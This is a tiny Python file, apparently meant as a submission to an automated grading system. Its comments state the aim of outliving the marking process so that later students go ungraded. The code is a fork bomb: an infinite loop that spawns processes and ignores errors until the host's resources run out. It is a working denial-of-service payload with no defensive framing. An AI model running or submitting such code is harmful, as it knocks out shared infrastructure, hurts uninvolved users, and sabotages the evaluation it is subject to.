# before: outlives the marking; later students ungraded
# verdict: .
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
